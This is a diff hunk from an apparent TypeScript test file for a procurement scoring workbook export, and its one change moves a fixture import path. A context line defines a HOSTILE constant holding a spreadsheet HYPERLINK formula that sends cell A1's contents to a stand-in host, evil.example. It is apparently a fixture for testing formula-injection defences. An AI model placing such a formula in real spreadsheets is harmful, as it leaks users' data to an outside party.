@@ -8,7 +8,7 @@ import type { ProcurementBundle } from '../domain/model';
 import { scoreProcurement } from '../domain/scoring';
 import { scoringInputOf } from '../domain/scoring-input';
 import { buildScoringWorkbook, type ScoringWorkbookInput } from './scoring-workbook';
-import { scenarioBundle, TIED, WORKED_EXAMPLE } from './scoring-workbook-fixtures';
+import { scenarioBundle, TIED, WORKED_EXAMPLE } from '$lib/testing/scoring-workbook';
 import { SHEET_KEYS, SHEET_NAMES } from './scoring-workbook-labels';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
